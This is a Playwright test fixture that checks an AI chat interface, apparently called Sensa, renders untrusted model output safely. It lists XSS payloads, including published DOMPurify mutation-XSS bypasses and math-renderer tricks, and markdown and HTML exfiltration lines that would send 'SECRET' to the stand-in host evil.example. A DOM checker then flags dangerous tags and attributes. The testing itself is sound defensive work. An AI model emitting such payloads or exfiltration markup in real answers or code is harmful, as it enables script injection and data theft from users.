// Untrusted model output for the safety tests: XSS and exfiltration payloads, and the checks that they stayed inert.
// Shared by the local-model corpus (rendering-safety.spec.ts) and the remote-server one (remote-server.spec.ts).

import { expect, type Page } from '@playwright/test';

/** Each one sets `window.__pwned` (or reaches for evil.example) if anything in it ever runs. */
export const XSS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '<svg onload="window.__pwned = 3"><script>window.__pwned = 3</script></svg>',
  '[a javascript link](javascript:window.__pwned=4)',
  '[a data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3BlbmVyLl9fcHduZWQ9NTwvc2NyaXB0Pg==)',
  '<iframe src="javascript:window.__pwned = 6"></iframe><iframe srcdoc="<script>parent.__pwned = 6</script>"></iframe>',
  '<a href="javascript:window.__pwned = 7">raw anchor</a> <a href="&#106;avascript:window.__pwned = 7">entity anchor</a>',
  '<details open ontoggle="window.__pwned = 8"><summary>x</summary></details>',
  '<object data="javascript:window.__pwned = 9"></object><embed src="javascript:window.__pwned = 9">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:window.__pwned = 10">',
  // DOMPurify's published mutation-XSS bypasses (namespace confusion, noscript and style parsing differentials).
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 11">',
  '<svg></p><style><a id="</style><img src=1 onerror="window.__pwned = 12">">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__pwned = 13">',
  '<noscript><p title="</noscript><img src=x onerror=\'window.__pwned = 14\'>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=\'window.__pwned = 15\' src=1>">',
  // Through the math and code renderers, which write HTML of their own before the sanitizer runs.
  '$\\href{javascript:window.__pwned=16}{click}$ and $$\\htmlData{onclick=window.__pwned=16}{x}$$',
  '```html\n<script>window.__pwned = 17</script>\n```',
  '[ref link][r]\n\n[r]: javascript:window.__pwned=18',
];

/** Each would send "SECRET" to evil.example if the renderer fetched it. */
export const EXFIL = [
  '![inline](https://evil.example/inline.png?q=SECRET)',
  '![reference][pic]\n\n[pic]: https://evil.example/reference.png?q=SECRET',
  '<img src="https://evil.example/html.png?q=SECRET">',
  '<https://evil.example/autolink?q=SECRET>',
  'https://evil.example/bare-autolink?q=SECRET',
  '<picture><source srcset="https://evil.example/picture.png?q=SECRET"></picture><video poster="https://evil.example/poster.png?q=SECRET"></video>',
  '<link rel="prefetch" href="https://evil.example/prefetch?q=SECRET"><div style="background:url(https://evil.example/css.png?q=SECRET)">x</div>',
  '<input type="image" src="https://evil.example/input.png?q=SECRET">',
];

export const XSS_TEXT = XSS.join('\n\n');
export const EXFIL_TEXT = EXFIL.join('\n\n');

/** Records what a page would have run or loaded: CSP violations (the last line of defence) and requests to evil.example. */
export async function watch(page: Page): Promise<{ evil: string[] }> {
  const evil: string[] = [];
  page.context().on('request', (request) => {
    if (request.url().includes('evil.example')) evil.push(request.url());
  });
  page.on('dialog', (dialog) => {
    evil.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return { evil };
}

/** The sanitizer's own work, checked in the DOM: nothing that could run or load survived into an answer. */
async function dangerousNodes(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const forbidden = new Set(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'LINK', 'META', 'BASE', 'FORM', 'INPUT', 'IMG', 'VIDEO', 'AUDIO', 'SOURCE', 'PICTURE', 'SVG', 'NOSCRIPT', 'TEXTAREA']);
    for (const el of document.querySelectorAll('[aria-label="Sensa answered"] [data-testid="answer"] *')) {
      if (forbidden.has(el.tagName.toUpperCase())) found.push(`<${el.tagName.toLowerCase()}>`);
      for (const attr of el.attributes) {
        // Browsers ignore whitespace and control characters inside a URL's scheme ("java\tscript:").
        const value = [...attr.value].filter((c) => c.charCodeAt(0) > 0x20).join('').toLowerCase();
        if (attr.name.startsWith('on')) found.push(`${el.tagName.toLowerCase()}[${attr.name}]`);
        if (['href', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'poster', 'data', 'xlink:href'].includes(attr.name) && !/^(https?:|mailto:|#)/.test(value)) {
          found.push(`${el.tagName.toLowerCase()}[${attr.name}=${attr.value}]`);
        }
        if (attr.name === 'style' && /url\(|expression\(/.test(value)) found.push(`${el.tagName.toLowerCase()}[style=${attr.value}]`);
      }
    }
    return found;
  });
}

export async function expectInert(page: Page, evil: string[]): Promise<void> {
  expect(await dangerousNodes(page), 'elements or attributes that could run or load').toEqual([]);
  // Nothing firing is the behaviour, and absence has no signal to wait for: this wait gives anything deferred (an image
  // load, a meta refresh, a toggle event) time to fire before looking.
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), 'the canary').toBeUndefined();
  expect(evil, 'requests to the exfiltration host, and dialogs').toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations), 'blocked by the CSP: something tried').toEqual([]);
}

